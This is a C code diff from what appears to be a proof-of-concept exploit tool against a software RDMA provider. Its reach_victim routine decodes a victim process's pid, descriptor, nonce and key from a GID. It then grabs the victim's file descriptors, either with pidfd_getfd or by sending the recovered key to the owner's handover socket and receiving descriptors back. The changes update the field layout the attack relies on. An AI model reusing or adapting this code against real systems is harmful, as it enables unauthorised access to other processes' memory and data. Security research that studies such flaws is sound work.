@@ -38,7 +38,7 @@ void reach_drop(struct reach *r)
 
 /* The GID's fields as the soft HCA lays them out (shm.c, sh_gid_encode). */
 static void gid_fields(const union ibv_gid *gid, pid_t *pid, int *fd,
-		       uint32_t *salt, uint64_t *secret)
+		       uint32_t *nonce, uint64_t *key)
 {
 	uint32_t w[4];
 
@@ -46,9 +46,9 @@ static void gid_fields(const union ibv_gid *gid, pid_t *pid, int *fd,
 	for (int i = 0; i < 4; i++)
 		w[i] = ntohl(w[i]);
 	*pid = (pid_t)(w[1] & 0x3fffffu);
-	*salt = w[1] >> 22;
+	*nonce = (w[2] >> 16) << 10 | w[1] >> 22;
 	*fd = (int)(w[2] & 0xffffu);
-	*secret = (uint64_t)((w[0] & 0xffffu) << 16 | w[2] >> 16) << 32 | w[3];
+	*key = (uint64_t)(w[0] & 0xffffu) << 32 | w[3];
 }
 
 /* pidfd_getfd: needs a ptrace right over the owner */
@@ -69,8 +69,8 @@ static int by_pidfd(pid_t pid, int fd, int *pfd, int *rfd)
 }
 
 /* the owner's socket, as a peer asks it (handover.c) */
-static int by_socket(pid_t pid, int fd, uint32_t salt, uint64_t secret,
-		     int *pfd, int *rfd)
+static int by_socket(pid_t pid, uint32_t nonce, uint64_t key, int *pfd,
+		     int *rfd)
 {
 	union {
 		struct cmsghdr h;
@@ -86,7 +86,7 @@ static int by_socket(pid_t pid, int fd, uint32_t salt, uint64_t secret,
 	int s, n, fds[2], rc = -1;
 
 	n = snprintf(a.sun_path + 1, sizeof(a.sun_path) - 1,
-		     "softhca.%d.%d.%u", (int)pid, fd, salt);
+		     "softhca.%d.%u", (int)pid, nonce);
 	s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
 	if (s < 0)
 		return -1;
@@ -94,8 +94,7 @@ static int by_socket(pid_t pid, int fd, uint32_t salt, uint64_t secret,
 	if (!connect(s, (struct sockaddr *)&a,
 		     (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 +
 				 (size_t)n)) &&
-	    send(s, &secret, sizeof(secret), MSG_NOSIGNAL) ==
-		    (ssize_t)sizeof(secret) &&
+	    send(s, &key, sizeof(key), MSG_NOSIGNAL) == (ssize_t)sizeof(key) &&
 	    recvmsg(s, &m, MSG_CMSG_CLOEXEC) == 1 &&
 	    (h = CMSG_FIRSTHDR(&m)) && h->cmsg_type == SCM_RIGHTS &&
 	    h->cmsg_len == CMSG_LEN(sizeof(fds))) {
@@ -110,18 +109,18 @@ static int by_socket(pid_t pid, int fd, uint32_t salt, uint64_t secret,
 
 void reach_victim(const union ibv_gid *gid, struct reach *r)
 {
-	uint64_t secret;
-	uint32_t salt;
+	uint64_t key;
+	uint32_t nonce;
 	int fd, pfd, rfd;
 	struct stat st;
 	pid_t pid;
 	void *m;
 
 	memset(r, 0, sizeof(*r));
-	gid_fields(gid, &pid, &fd, &salt, &secret);
+	gid_fields(gid, &pid, &fd, &nonce, &key);
 	if (!by_pidfd(pid, fd, &pfd, &rfd)) {
 		r->how = "pidfd_getfd";
-	} else if (!by_socket(pid, fd, salt, secret, &pfd, &rfd)) {
+	} else if (!by_socket(pid, nonce, key, &pfd, &rfd)) {
 		r->how = "the owner's socket";
 	} else {
 		r->how = "pidfd_getfd and the owner's socket refused";
